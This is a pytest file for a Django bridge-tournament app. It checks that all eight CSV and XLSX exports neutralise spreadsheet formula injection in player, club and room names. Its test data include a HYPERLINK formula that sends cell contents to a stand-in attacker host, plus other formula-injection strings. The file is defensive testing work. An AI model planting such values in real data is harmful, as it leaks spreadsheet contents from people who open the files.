"""No CSV file the app writes carries a formula (OWASP «CSV injection»): players, clubs and
rooms named like ``=HYPERLINK(…)`` reach the spreadsheet as text, with a leading «'»; plain
numbers (negative scores) stay numbers. Every export: the five public results files and the
director's three movement files. Their XLSX twins hold the same names as string cells — the
text exactly, marked «quote prefix» so that editing the cell keeps it text — and not one
formula."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils.text import format_lazy
from openpyxl import load_workbook

from events import services as event_services
from events.csvsafe import PLAIN_NUMBER, csv_safe_writer, safe_cell
from events.models import Entry, Room
from movements import planner
from movements.services import session_create
from scoring.sheets import services
from tests.factories import THREE_DIAMONDS, deal_of, entry_at, play_of, play_out, sheet

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Names that come in through the usual service (which strips spaces) …
NAMES = [HYPERLINK, "+1", "-cmd", "@SUM(A1)", "=1+2", "-2+3"]
# … and clubs with a leading tab or carriage return, written straight to the rows: the forms
# strip them, but the files must not rely on that.
CLUBS = {1: "\tx", 2: "\rx", 3: "@club", 4: "=club"}
ROOM = "@SUM(A1) room"


def _dangerous(cell: str) -> bool:
    return cell.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(cell)


# --- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1 Игорь", "-cmd", "@SUM(A1)", "\tx", "\rx", "-", "=", "@", "-1e5", "--1"]
)
def test_formula_like_text_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-250", "-1.5", "+3", "0,5", "-0,25", "70", "", "Иванов"])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_numbers_none_and_lazy_strings():
    assert safe_cell(-250) == -250 and safe_cell(-1.5) == -1.5 and safe_cell(None) is None
    assert safe_cell(format_lazy("{}", "-lazy")) == "'-lazy"


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_safe_writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(["=A1", -3, "-3"])
    writer.writerows([["@x", "ok"], ["+1", "+x"]])
    assert out.getvalue() == "'=A1;-3;-3\n'@x;ok\n+1;'+x\n"


# --- every export -----------------------------------------------------------------------------


@pytest.fixture
def hostile(event, director):
    """15 players (one prime room, 5 tables × 3) with formula-like names and clubs, a room
    named like a formula, three deals of round 1 table 1 scored (one down: negative points),
    the session played out and the results published."""
    for i in range(15):
        last = NAMES[i] if i < len(NAMES) else f"Игроков{i + 1:02d}"
        event_services.entry_create(event, last_name=last, first_name="Игорь", club="ЦДШ")
    event_services.draw_make(event, seed="tests")
    for number, club in CLUBS.items():
        Entry.objects.filter(event=event, number=number).update(club=club)
    option = next(
        o
        for o in planner.plan(15).as_dict()["options"]
        if all(r["kind"] == "prime" and r["seats"] == 3 for r in o["rooms"])
    )
    session = session_create(event, option)
    Room.objects.filter(session=session).update(name=ROOM)
    play = play_of(session, 1, 1)
    down = sheet(declarer="N", tricks={"N": 4, "E": 6})
    for number, data in ((1, THREE_DIAMONDS), (2, down), (3, THREE_DIAMONDS)):
        services.sheet_record(play, deal_of(play, number), data, by_user=director)
    play_out(session)  # every deal played out: every file carries every row
    event_services.event_set_results_public(event, True)
    return event, session, play


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))


def _public_urls(event, play, kind="csv"):
    slug, deal, entry = event.slug, deal_of(play, 2), entry_at(play, "N")
    return {
        "event": reverse(f"public:event_{kind}", args=[slug]),
        "session": reverse(f"public:session_{kind}", args=[slug, 1]),
        "travellers": reverse(f"public:session_travellers_{kind}", args=[slug, 1]),
        "traveller": reverse(f"public:traveller_{kind}", args=[slug, deal.pk]),
        "card": reverse(f"public:card_{kind}", args=[slug, entry.number]),
    }


def _director_urls(event, session, kind="csv"):
    return {
        name: reverse(f"director:{name}_{kind}", args=[event.pk, session.number])
        for name in ("grid", "table", "participant")
    }


def test_no_export_carries_a_formula_and_the_names_are_still_there(client, director, hostile):
    event, session, play = hostile
    files = {name: _rows(client.get(url)) for name, url in _public_urls(event, play).items()}
    client.force_login(director)
    files |= {name: _rows(client.get(url)) for name, url in _director_urls(event, session).items()}
    assert len(files) == 8

    for name, rows in files.items():
        assert len(rows) > 1, name
        for row in rows:
            for cell in row:
                assert not _dangerous(cell), (name, cell)

    hostile_names = {"'" + e.full_name for e in event.entries.filter(last_name__in=NAMES)}
    assert len(hostile_names) == len(NAMES)
    for name in ("event", "session", "grid", "table", "participant"):
        cells = {cell for row in files[name] for cell in row}
        assert hostile_names <= cells, name
    standings = {cell for row in files["event"] for cell in row}
    assert {"'" + club for club in CLUBS.values()} <= standings
    for name in ("travellers", "traveller", "grid", "table", "participant"):
        assert "'" + ROOM in {cell for row in files[name] for cell in row}, name
    # The traveller names the player after his number («1 =HYPERLINK…»): harmless, as it is.
    traveller = " ".join(cell for row in files["travellers"] for cell in row)
    assert HYPERLINK in traveller
    # Negative scores stay numbers a spreadsheet can add up.
    scores = [cell for row in files["card"][1:] for cell in row[9:11]]
    assert any(cell.startswith("-") and PLAIN_NUMBER.fullmatch(cell) for cell in scores), scores


# --- the XLSX twins ---------------------------------------------------------------------------


def _cells(response) -> list:
    """Every cell of the XLSX, checked to hold no formula: not as openpyxl reads it back, and
    not in the file (a formula cell is an ``<f>`` element)."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def test_no_xlsx_carries_a_formula_and_the_names_are_there_as_text(client, director, hostile):
    event, session, play = hostile
    urls = _public_urls(event, play, "xlsx")
    files = {name: _cells(client.get(url)) for name, url in urls.items()}
    client.force_login(director)
    urls = _director_urls(event, session, "xlsx")
    files |= {name: _cells(client.get(url)) for name, url in urls.items()}
    assert len(files) == 8

    for name, cells in files.items():
        for cell in cells:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (name, cell.value)
                assert not cell.value.startswith("'"), (name, cell.value)  # the text itself
                if cell.value.startswith(DANGEROUS):
                    assert cell.quotePrefix, (name, cell.value)
            else:
                assert cell.data_type == "n", (name, cell.value)

    def texts(name):
        return {cell.value for cell in files[name] if isinstance(cell.value, str)}

    hostile_names = {e.full_name for e in event.entries.filter(last_name__in=NAMES)}
    assert len(hostile_names) == len(NAMES)
    for name in ("event", "session", "grid", "table", "participant"):
        assert hostile_names <= texts(name), name
    # The clubs as they are (XML reads a carriage return as a line feed).
    assert {"\tx", "\nx", "@club", "=club"} <= {v.replace("\r", "\n") for v in texts("event")}
    for name in ("travellers", "traveller", "grid", "table", "participant"):
        assert ROOM in texts(name), name
    assert any(HYPERLINK in value for value in texts("travellers"))
    # Negative scores are numbers a spreadsheet can add up.
    assert any(isinstance(c.value, int | float) and c.value < 0 for c in files["card"])
